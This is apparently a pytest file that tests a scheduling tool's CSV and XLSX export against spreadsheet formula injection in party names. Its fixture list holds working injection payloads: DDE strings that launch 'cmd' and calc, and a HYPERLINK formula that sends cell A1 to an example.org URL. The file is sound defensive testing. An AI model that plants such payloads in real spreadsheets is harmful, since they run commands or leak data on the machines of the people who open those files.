"""Names that begin like a formula stay text in the schedule's XLSX and CSV (issue #23, finding 3).

An agreement whose party and committee are named like formulas (`=HYPERLINK(…)`, `+…`, `-…|cmd`,
`@…`, a tab, a carriage return) is written as XLSX and CSV: the XLSX holds no formula at all, each
such name is a text cell with Excel's quote prefix, and the CSV writes it after a `'` (OWASP).
`check` warns on such names (IOP308).
"""
from __future__ import annotations

import csv
import io
import shutil
import zipfile
from pathlib import Path

import pytest

from tests.conftest import REPO

FIXTURE = REPO / "tests" / "fixtures" / "minimal-agreement.yaml"
NAMES = ['=HYPERLINK("http://example.org/?x="&A1,"Kvinnojouren")', "+1+cmd|' /C calc'!A0", "-2+3",
         "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def project_with(tmp_path: Path, name: str) -> Path:
    root = tmp_path / "p"
    (root / "sources").mkdir(parents=True)
    shutil.copytree(REPO / "templates", root / "templates")
    text = FIXTURE.read_text(encoding="utf-8").replace(
        "    name: Linköpings kommun", f"    name: {quoted(name)}")
    (root / "sources" / "minimal-agreement.yaml").write_text(text, encoding="utf-8")
    return root


def quoted(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") + '"'


@pytest.mark.parametrize("name", NAMES)
def test_csv_writes_a_formula_like_name_as_text(cli, tmp_path, name):
    root = project_with(tmp_path, name)
    checked = cli("check", "sources/minimal-agreement.yaml", cwd=root)
    assert "warning[IOP308]" in checked.err and "IOP099" not in checked.err, checked.err
    assert ("error[IOP309]" in checked.err) == ("\t" in name or "\r" in name), checked.err
    result = cli("schedule", "sources/minimal-agreement.yaml", "--format", "csv", "-o", "plan.csv", cwd=root)
    assert result.code == 0, result.err
    rows = list(csv.DictReader(io.StringIO((root / "plan.csv").read_bytes().decode("utf-8"), newline="")))
    parties = {row["party"] for row in rows}
    assert "'" + " ".join(name.splitlines()) in parties
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit(), value


def test_xlsx_holds_no_formula_and_keeps_the_names_as_written(cli, tmp_path):
    from openpyxl import load_workbook

    for number, name in enumerate(NAMES):
        root = project_with(tmp_path / str(number), name)
        result = cli("schedule", "sources/minimal-agreement.yaml", "--format", "xlsx", "-o", "plan.xlsx", cwd=root)
        assert result.code == 0, result.err
        with zipfile.ZipFile(root / "plan.xlsx") as package:
            sheets = [package.read(n).decode("utf-8") for n in package.namelist() if n.startswith("xl/worksheets/")]
            styles = package.read("xl/styles.xml").decode("utf-8")
        assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets), "no formula in any sheet"
        assert 'quotePrefix="1"' in styles, "Excel's quote prefix keeps the cell text when it is edited"
        workbook = load_workbook(root / "plan.xlsx")
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
        named = [cell for cell in cells if cell.value == name.replace("\r", "\n") or cell.value == name]
        assert named and all(cell.data_type == "s" and cell.quotePrefix for cell in named), name
